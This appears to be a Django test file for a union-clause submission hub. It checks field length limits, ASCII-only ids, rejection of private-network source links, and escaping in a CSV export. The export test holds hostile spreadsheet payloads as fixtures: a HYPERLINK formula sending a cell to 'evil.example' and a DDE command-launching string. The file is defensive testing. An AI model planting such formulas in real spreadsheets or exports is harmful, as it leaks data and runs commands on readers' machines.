"""Bounds on what the hub accepts: every text field of the "Submit a clause" form has a limit
that the form states (and the browser enforces with `maxlength`), ids are ASCII digits, a source
link is a public web address; the clause editor bounds a clause's texts too; and the moderators'
CSV export never lets a spreadsheet run a submitter's text as a formula."""

import csv
import io
import re

import pytest
from django.contrib.auth.models import User
from django.core.exceptions import ValidationError
from django.test import Client

from clauses.models import ClauseSubmission

from .factories import make_clause
from .helpers import form_data

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def no_rate_limit(settings):
    settings.HUB_SUBMISSIONS_PER_HOUR = 1000


def refused(client, url, field, **overrides):
    response = client.post(url, form_data(**overrides))
    assert response.status_code == 400
    assert field in response.context["form"].errors, response.context["form"].errors
    assert not ClauseSubmission.objects.exists()
    return response.context["form"].errors[field]


def test_the_form_states_each_limit_and_the_browser_enforces_it(client, url):
    page = client.get(url).content.decode()
    assert "At most 20,000 characters." in page
    fields = [
        ("textarea", "text", 20_000),
        ("input", "title", 255),
        ("input", "union_name", 255),
        ("input", "submitter_name", 200),
        ("input", "submitter_email", 254),
        ("input", "source_url", 500),
    ]
    for tag, name, limit in fields:
        element = re.search(rf'<{tag}[^>]*name="{name}"[^>]*>', page).group()
        assert f'maxlength="{limit}"' in element, element
        assert f"At most {limit:,} characters." in page


def test_a_clause_text_of_megabytes_is_refused(client, url):
    errors = refused(client, url, "text", text="A clause. " * 240_000)
    assert "at most 20000 characters" in errors[0]


def test_the_longest_text_allowed_is_stored(client, url):
    response = client.post(url, form_data(text="x" * 20_000))
    assert response.status_code == 303
    assert len(ClauseSubmission.objects.get().text) == 20_000


WRITTEN = {
    # The same id in other digits or notations is not a choice ("１２" was country 12).
    "full-width": lambda pk: "".join(chr(0xFF10 + int(d)) for d in str(pk)),
    "arabic-indic": lambda pk: "".join(chr(0x0660 + int(d)) for d in str(pk)),
    "plus": lambda pk: f"+{pk}",
    "space": lambda pk: f" {pk}",
    "decimal": lambda pk: f"{pk}.0",
}


@pytest.mark.parametrize("field", ["country", "sector", "suggested_theme"])
@pytest.mark.parametrize("written", WRITTEN)
def test_ids_are_ascii_digits_only(client, url, taxonomy, field, written):
    theme, country, sector = taxonomy.theme, taxonomy.country, taxonomy.sector
    real = {"country": country, "sector": sector, "suggested_theme": theme}[field].pk
    value = WRITTEN[written](real)
    errors = refused(client, url, field, taxonomy=taxonomy, **{field: value})
    assert "valid choice" in errors[0]


def test_ascii_ids_are_accepted(client, url, taxonomy):
    response = client.post(url, form_data(taxonomy=taxonomy))
    assert response.status_code == 303
    assert ClauseSubmission.objects.get().country == taxonomy.country


@pytest.mark.parametrize(
    "link, message",
    [
        ("https://[::1]:99999/", "port number"),
        ("https://example.org:99999/agreement.pdf", "port number"),
        ("https://example.org:0/", "port number"),
        ("https://[::1]/", "private network"),
        ("http://127.0.0.1:8000/admin/", "private network"),
        ("http://10.0.0.7/agreement.pdf", "private network"),
        ("http://localhost/agreement.pdf", "private network"),
        ("https://user:secret@example.org/agreement.pdf", "user name or password"),
        ("ftp://example.org/agreement.pdf", "http:// or https://"),
    ],
)
def test_a_source_link_must_be_a_public_web_address(client, url, link, message):
    errors = refused(client, url, "source_url", source_url=link)
    assert message in " ".join(errors)


@pytest.mark.parametrize(
    "link",
    [
        "https://example.org/agreement.pdf",
        "http://www.example.org:8080/a?b=c",
        "https://[2001:4860:4860::8888]/x",
        "https://ñandú.example/convenio",
    ],
)
def test_public_web_addresses_are_accepted(link):
    from clauses.validators import validate_public_web_address

    validate_public_web_address(link)


def test_the_clause_editor_bounds_a_clause_texts(taxonomy):
    clause = make_clause(taxonomy, live=False)
    clause.text = "x" * 20_001
    clause.commentary = "<p>" + "y" * 20_001 + "</p>"
    clause.source_url = "https://[::1]:99999/"
    with pytest.raises(ValidationError) as raised:
        clause.full_clean()
    assert set(raised.value.message_dict) == {"text", "commentary", "source_url"}


def test_the_clause_edit_form_shows_the_limits(taxonomy):
    clause = make_clause(taxonomy, live=False)
    user = User.objects.create_superuser("root", "root@example.org", "pw")
    client = Client()
    client.force_login(user)
    page = client.get(f"/admin/snippets/clauses/clause/edit/{clause.pk}/").content.decode()
    assert 'maxlength="20000"' in page


def test_the_export_of_submissions_never_runs_a_formula():
    admin = User.objects.create_superuser("root", "root@example.org", "pw")
    hostile = {
        "title": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        "text": "+1+cmd|' /C calc'!A0",
        "union_name": "@SUM(1+1)",
        "source_url": "https://example.org/",
        "rejection_reason": "-2+3",
    }
    ClauseSubmission.objects.create(
        **hostile, submitter_name="Ana", submitter_email="ana@example.org", address_hash="x"
    )
    ClauseSubmission.objects.create(
        title="\tTabbed", text="\rCarriage", union_name="Plain union", submitter_name="Bo",
        submitter_email="bo@example.org", address_hash="y",
    )  # fmt: skip
    client = Client()
    client.force_login(admin)
    response = client.get("/admin/clauses/clausesubmission/", {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content)))
    cells = [value for row in rows for value in row.values()]
    for text in [*hostile.values(), "\tTabbed", "\rCarriage"]:
        if text.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert "'" + text in cells, text
            assert text not in cells
    assert "Plain union" in cells
    # The only cells that start so are the admin's sign for "empty".
    assert {c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))} == {"-"}
